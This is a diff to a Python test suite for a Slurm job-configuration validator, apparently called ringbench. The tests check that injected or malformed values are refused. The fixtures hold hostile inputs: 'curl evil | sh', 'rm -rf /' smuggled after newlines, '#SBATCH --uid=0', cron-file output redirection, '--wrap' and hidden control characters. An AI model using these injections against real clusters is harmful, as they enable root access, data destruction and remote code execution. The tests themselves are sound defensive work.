@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import textwrap
 from pathlib import Path
@@ -355,8 +356,8 @@ def test_error_in_profile_names_the_profile(tmp_path):
         ('partition: "gpu\\n#SBATCH --uid=0"', "slurm.partition: expected a partition name"),
         ('setup: ["module load cuda; curl evil | sh"]', "slurm.setup[0]: a setup line is one simple command"),
         ('setup: ["echo $(id)"]', "slurm.setup[0]: a setup line is one simple command"),
-        ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: expected a one-line command"),
-        ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: expected one long sbatch option"),
+        ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: 'module load a\\nrm -rf /' contains a newline (U+000A)"),
+        ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: '--mem=8G\\nrm -rf /' contains a newline (U+000A)"),
         ('sbatch: ["--array=0-99"]', "slurm.sbatch[0]: --array may not be given here: ringbench sets it"),
         ('sbatch: ["--time=10"]', "slurm.sbatch[0]: --time may not be given here: use slurm.time"),
         ('env: {"A B": x}', "slurm.env.A B: expected an environment variable name"),
@@ -406,6 +407,68 @@ def test_template_the_user_cannot_read_is_refused(tmp_path):
 def test_sbatch_options_that_replace_or_redirect_the_script_are_refused(tmp_path, line, expected):
     msg = error_of(tmp_path, f'name: x\nslurm:\n  sbatch: ["--mem=1G", "{line}"]\n')
     assert msg.startswith(f"FILE:3: slurm.sbatch[1]: {expected}")
+
+
+@pytest.mark.parametrize(
+    "entry, expected",
+    [
+        ("--mem=1G --output=/etc/cron.d/evil", "--output may not be given here: ringbench sets it"),
+        ("--mem=1G --chdir=/etc", "--chdir may not be given here: ringbench sets it"),
+        ("--exclusive --array=0-9999", "--array may not be given here: ringbench sets it"),
+        ("--mem=1G --wrap=id", "--wrap may not be given: it replaces the job script with a command"),
+        ("--mem=1G\\ --wrap=id", "--wrap may not be given"),  # an escaped blank still separates words
+        ("'--mem=1G' \"--wrap=id\"", "--wrap may not be given"),
+        ('--comment="x" --out=/tmp/x', "--out abbreviates --output"),
+        ("--mem=1G -o /etc/cron.d/evil", "'-o' is not a long option --name or --name=value (no short options"),
+        ("--mem=1G -D/etc", "'-D/etc' is not a long option"),
+        ("--mem=1G hetjob --output=/x", "'hetjob' starts another component of a heterogeneous job"),
+        ("--mem=1G evil", "'evil' is not an option"),
+        ('--comment="open', "sbatch cannot read"),
+        ("# --mem=1G", "expected a long sbatch option such as '--mem=8G' or '--exclusive', got '# --mem=1G' (sbatch reads no option"),
+    ],
+)
+def test_every_option_sbatch_reads_from_an_entry_is_checked(tmp_path, entry, expected):
+    msg = error_of(tmp_path, f"name: x\nslurm:\n  sbatch:\n    - {json.dumps(entry)}\n")
+    assert msg.startswith(f"FILE:4: slurm.sbatch[0]: {expected}"), msg
+
+
+def test_entry_read_as_several_options_says_so(tmp_path):
+    msg = error_of(tmp_path, 'name: x\nslurm: {sbatch: ["--mem=1G --output=/etc/cron.d/evil"]}\n')
+    assert msg == (
+        "FILE:2: slurm.sbatch[0]: --output may not be given here: ringbench sets it "
+        "(sbatch reads '--mem=1G --output=/etc/cron.d/evil' as the words '--mem=1G', '--output=/etc/cron.d/evil')"
+    )
+
+
+def test_sbatch_entries_are_stored_as_the_words_sbatch_reads(tmp_path):
+    entries = ["--mem 8G", "--comment='a b #c'", "--mail-user=a@b.c  # a note", '--exclusive --comment=x"y z"']
+    path = write(tmp_path, f"name: x\nslurm:\n  sbatch: {json.dumps(entries)}\n")
+    assert experiment.load(path).slurm.sbatch == ["--mem 8G", '--comment="a b #c"', "--mail-user=a@b.c", '--exclusive --comment="xy z"']
+
+
+@pytest.mark.parametrize(
+    "slurm, key",
+    [
+        ('partition: "gpu\\n"', "slurm.partition: expected a partition name"),
+        ('time: "5\\n"', "slurm.time: expected a Slurm time limit"),
+        ('job_name: "x\\n"', "slurm.job_name: expected letters"),
+        ('env: {"A\\n": x}', "slurm.env.'A\\n': expected an environment variable name (letters, digits, _), got 'A\\n'"),
+        ('env: {A: "x\\0y"}', "slurm.env.A: 'x\\x00y' contains a NUL (U+0000)"),
+        ('env: {A: "x\\x85y"}', "slurm.env.A: 'x\\x85y' contains a control character (U+0085)"),
+        ('python: "/venv\\u2028/bin/python"', "slurm.python: '/venv\\u2028/bin/python' contains a control character (U+2028)"),
+        ('mpiexec: "/bin/mpiexec\\r"', "slurm.mpiexec: '/bin/mpiexec\\r' contains a carriage return (U+000D)"),
+        ('setup: ["module\\tload x"]', "slurm.setup[0]: 'module\\tload x' contains a tab (U+0009)"),
+        ('sbatch: ["--comment=a\\x1bb"]', "slurm.sbatch[0]: '--comment=a\\x1bb' contains a control character (U+001B)"),
+    ],
+)
+def test_control_characters_in_slurm_values_are_refused(tmp_path, slurm, key):
+    msg = error_of(tmp_path, f"name: x\nslurm:\n  {slurm}\n")
+    assert msg.startswith(f"FILE:3: {key}"), msg
+
+
+def test_experiment_name_with_a_trailing_newline_is_refused(tmp_path):
+    msg = error_of(tmp_path, 'name: "quick\\n"\n')
+    assert msg == "FILE:1: name: expected a name of letters, digits, _ . - (at most 64), got 'quick\\n'"
 
 
 def test_sbatch_options_that_are_full_names_pass(tmp_path):
